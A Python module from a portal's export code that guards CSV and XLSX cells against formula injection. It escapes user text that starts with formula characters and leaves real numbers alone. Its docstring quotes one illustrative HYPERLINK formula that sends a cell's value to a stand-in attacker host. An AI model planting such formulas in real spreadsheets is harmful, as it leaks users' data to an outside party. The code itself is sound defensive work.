"""Cells of the CSV and XLSX files the portal writes: text from users never becomes a formula.

OWASP's CSV-injection rule: a text cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return
could be run as a formula by Excel or LibreOffice (`=HYPERLINK("http://evil.example/?x="&A1,"click")`).
Real numbers are left alone, typed or written as text (`-12`, `+5`, `-1,5`, `-3 %`).

- CSV: such a cell gets a leading apostrophe, which spreadsheets show as "this is text";
  `csv_cell_read` takes it off again, so every import reads the value back unchanged.
- XLSX: such a cell is written as a string with Excel's quote prefix, so it shows as typed and stays text
  when edited; it reads back unchanged.

Every writer goes through `csv_writer` or `xlsx_row` (openpyxl), or `is_formula_like` (export.py, XlsxWriter).
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import IO, Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
APOSTROPHE = "'"
# A number as the portal writes or people type it: sign, digits with spaces between thousands, a decimal
# point or comma, an optional exponent or percent sign.
_NUMBER = re.compile(r"[+-]?\d[\d\s\u00a0\u202f]*([.,]\d+)?([eE][+-]?\d+)?\s?%?")


def is_formula_like(value: object) -> bool:
    """A str that a spreadsheet could take for a formula (and that is not a real number)."""
    return isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(value)


def csv_cell(value: object) -> object:
    """The value to hand to `csv.writer`: formula-like text behind an apostrophe, anything else as is."""
    return APOSTROPHE + value if is_formula_like(value) else value


def csv_cell_read(text: str) -> str:
    """Undo `csv_cell` for a cell read from a CSV file."""
    if text.startswith(APOSTROPHE) and is_formula_like(text[1:]):
        return text[1:]
    return text


class _SafeWriter:
    def __init__(self, writer) -> None:
        self._writer = writer

    def writerow(self, row: Iterable[Any]):
        return self._writer.writerow([csv_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(handle: IO[str], **kwargs) -> _SafeWriter:
    """`csv.writer` whose every cell goes through `csv_cell`."""
    return _SafeWriter(csv.writer(handle, **kwargs))


def xlsx_row(sheet, values: Iterable[Any]) -> list:
    """The values for `sheet.append`: formula-like text as a quote-prefixed string cell, anything else as is.

    Works for normal and write-only openpyxl worksheets.
    """
    from openpyxl.cell import WriteOnlyCell

    row = []
    for value in values:
        if is_formula_like(value):
            cell = WriteOnlyCell(sheet, value)
            cell.data_type = "s"  # openpyxl would store a str starting with `=` as a formula
            cell.quotePrefix = True
            row.append(cell)
        else:
            row.append(value)
    return row
